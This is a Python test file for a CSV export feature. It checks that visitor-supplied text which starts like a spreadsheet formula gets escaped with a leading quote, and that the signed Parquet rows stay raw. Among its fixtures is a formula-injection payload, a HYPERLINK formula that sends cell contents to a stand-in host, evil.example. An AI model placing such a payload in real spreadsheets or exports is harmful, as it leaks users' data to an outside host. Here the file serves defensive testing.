"""CSV downloads cannot carry a formula: visitor-made text that a spreadsheet would run gets a leading `'`."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime

import httpx
import pyarrow.parquet as pq
import pytest

from leadline.canonical import ALGORITHM, canonical_rows, rows_sha256, sign, signed_message
from leadline.csv_cells import escape_cell, escape_row
from leadline.integrations.downloads import csv_bytes
from leadline.publishing.datasets import DATASETS
from leadline.publishing.publications import BRANCH, Publication
from leadline.store.ids import new_id
from tests.integrations.conftest import get_token, new_credentials
from tests.live_server import LiveServer

DAY = date(2026, 1, 2)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
# (source_field, source_value, visits): visitor-made UTM values and a referrer, and one negative number.
SOURCES: list[tuple[str, str, int]] = [
    ("utm_campaign", HYPERLINK, 1),
    ("utm_source", "+1", 2),
    ("utm_medium", "-2+3", 3),
    ("utm_campaign", "@SUM(A1:A9)", 4),
    ("utm_term", "\tx", 5),
    ("utm_content", "\rx", 6),
    ("referrer_hostname", "news.ycombinator.com", -7),
    ("utm_source", "a=b+c-d@e", 8),
]
ROWS: list[list[str | int | float]] = [
    [DAY.isoformat(), field, value, visits, visits, visits] for field, value, visits in SOURCES
]
ESCAPED = {HYPERLINK, "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=", "-"])
def test_text_that_starts_a_formula_gets_a_leading_quote(text: str) -> None:
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "newsletter", "a=b", "1+1", " =1", "'=1", "\nx", "x\t"])
def test_other_text_is_unchanged(text: str) -> None:
    assert escape_cell(text) == text


@pytest.mark.parametrize("number", [-2, -0.5, 0, 3, 135.29, float("-inf")])
def test_numbers_stay_numbers_even_when_negative(number: int | float) -> None:
    assert escape_cell(number) is number


def test_a_row_is_escaped_cell_by_cell() -> None:
    assert escape_row(["2026-01-02", "-x", -1, "@y"]) == ["2026-01-02", "'-x", -1, "'@y"]


def publication_of(site_id: str, account_id: str, server: LiveServer) -> tuple[Publication, bytes]:
    """A signed daily_sources publication of ROWS, made as the publisher makes one."""
    columns = [column.name for column in DATASETS["daily_sources"].columns]
    key = server.metadata.signing_keys.current(account_id)
    now = datetime.now(UTC).replace(microsecond=0)
    unsigned = Publication(
        id=new_id(),
        site_id=site_id,
        dataset="daily_sources",
        day=DAY,
        timezone="UTC",
        version=1,
        supersedes_id=None,
        branch_id=BRANCH,
        row_count=len(ROWS),
        rows_sha256=rows_sha256(columns, ROWS),
        key_id=key.key.id,
        signature_id=new_id(),
        signature="",
        signer_email="csv@example.com",
        timestamp_iso8601=now.isoformat(),
        published_at=now.replace(tzinfo=None),
    )
    signature = sign(key.private_key, signed_message(unsigned.signed_facts(ALGORITHM)))
    return replace(unsigned, signature=signature), canonical_rows(columns, ROWS)


def expected_records() -> list[list[str]]:
    return [["'" + cell if cell in ESCAPED else str(cell) for cell in row] for row in ROWS]


def test_csv_bytes_escape_formula_cells_and_leave_the_others(integration_server: LiveServer) -> None:
    credentials = new_credentials(integration_server, "daily_sources")
    publication, _ = publication_of(credentials.site.id, credentials.site.account_id, integration_server)
    header, *records = csv.reader(io.StringIO(csv_bytes(publication, ROWS).decode(), newline=""))
    assert header == publication.column_names
    assert records == expected_records()


def test_a_downloaded_csv_escapes_formula_cells_and_the_signed_rows_stay_raw(integration_server: LiveServer) -> None:
    credentials = new_credentials(integration_server, "daily_sources")
    publication, content = publication_of(credentials.site.id, credentials.site.account_id, integration_server)
    integration_server.metadata.publications.add(publication, content)
    headers = {"Authorization": f"Bearer {get_token(integration_server, credentials)}"}
    base = integration_server.url(f"/api/integrations/publications/{publication.id}")

    response = httpx.get(f"{base}/rows.csv", headers=headers, timeout=30)
    assert response.status_code == 200, response.text
    header, *records = csv.reader(io.StringIO(response.content.decode(), newline=""))
    assert header == publication.column_names
    assert records == expected_records()

    parquet = httpx.get(f"{base}/rows.parquet", headers=headers, timeout=30)
    assert parquet.status_code == 200
    assert pq.read_table(io.BytesIO(parquet.content)).column("source_value").to_pylist() == [
        value for _, value, _ in SOURCES
    ]
    assert parquet.headers["ETag"] == response.headers["ETag"] == f'"{rows_sha256(header, ROWS)}"'
